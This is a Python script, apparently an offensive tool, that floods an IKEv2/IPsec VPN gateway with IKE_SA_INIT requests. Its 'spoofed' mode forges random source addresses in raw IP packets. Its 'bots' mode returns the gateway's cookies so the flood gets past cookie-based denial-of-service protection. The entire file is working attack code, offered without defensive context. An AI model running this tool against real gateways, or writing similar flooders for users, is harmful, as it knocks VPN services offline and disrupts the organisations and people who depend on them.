#!/usr/bin/env python3
"""Floods a gateway with IKE_SA_INIT (RFC 7296 section 1.2) until it is ended.

  flooder.py spoofed TARGET PREFIX RATE     from random addresses of PREFIX, of which none is its own
  flooder.py bots TARGET RATE ADDRESS...    from true addresses: cookies are returned, puzzles are not solved
"""
import ipaddress
import os
import random
import select
import socket
import struct
import sys
import time

COOKIE = 16390


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def transform(last, kind, number, attributes=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attributes), kind, 0, number) + attributes


def request(cookie=b"", spi=None, nonce=None, public=None):
    """SA with AES-256-GCM-16, PRF_HMAC_SHA2_384 and Curve25519; KE; nonce."""
    transforms = (transform(False, 1, 20, struct.pack("!HH", 0x800e, 256)) + transform(False, 2, 6) +
                  transform(True, 4, 31))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    body = (payload(34, proposal) + payload(40, struct.pack("!HH", 31, 0) + (public or os.urandom(32))) +
            payload(0, nonce or os.urandom(32)))
    first = 33
    if cookie:
        body, first = payload(33, struct.pack("!BBH", 0, 0, COOKIE) + cookie) + body, 41
    return (spi or os.urandom(8)) + bytes(8) + struct.pack("!BBBBII", first, 0x20, 34, 8, 0, 28 + len(body)) + body


def cookie_of(answer):
    """The COOKIE notification stands first, if there is one."""
    if len(answer) > 36 and answer[16] == 41 and struct.unpack_from("!H", answer, 34)[0] == COOKIE:
        return answer[36:28 + struct.unpack_from("!H", answer, 30)[0]]
    return b""


def pace(rate):
    """One tick each time that it is time for a packet."""
    start, n = time.monotonic(), 0
    while True:
        while n < (time.monotonic() - start) * rate:
            n += 1
            yield
        time.sleep(0.002)


def spoofed(target, prefix, rate):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    net = ipaddress.ip_network(prefix)
    to = socket.inet_aton(target)
    for _ in pace(float(rate)):
        data = request()
        udp = struct.pack("!HHHH", random.randint(1024, 65535), 500, 8 + len(data), 0) + data
        source = net[random.randrange(1, net.num_addresses - 1)].packed
        # The kernel fills in the total length and the header's checksum.
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + source + to
        s.sendto(ip + udp, (target, 0))


def return_cookies(ready, asked):
    """To all that has come; once for each request."""
    while True:
        try:
            answer = ready.recv(4096)
            if cookie_of(answer) and answer[:8] in asked:
                ready.send(request(cookie_of(answer), **asked.pop(answer[:8])))
        except OSError:
            return


def bots(target, rate, *addresses):
    sockets = []
    for address in addresses:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((address, 0))
        s.connect((target, 500))
        s.setblocking(False)
        sockets.append(s)
    asked = {}
    for _ in pace(float(rate)):
        for ready in select.select(sockets, [], [], 0)[0]:
            return_cookies(ready, asked)
        ask = dict(spi=os.urandom(8), nonce=os.urandom(32), public=os.urandom(32))
        asked[ask["spi"]] = ask
        if len(asked) > 1000:
            asked.pop(next(iter(asked)))
        try:
            random.choice(sockets).send(request(**ask))
        except OSError:
            pass


if __name__ == "__main__":
    {"spoofed": spoofed, "bots": bots}[sys.argv[1]](*sys.argv[2:])
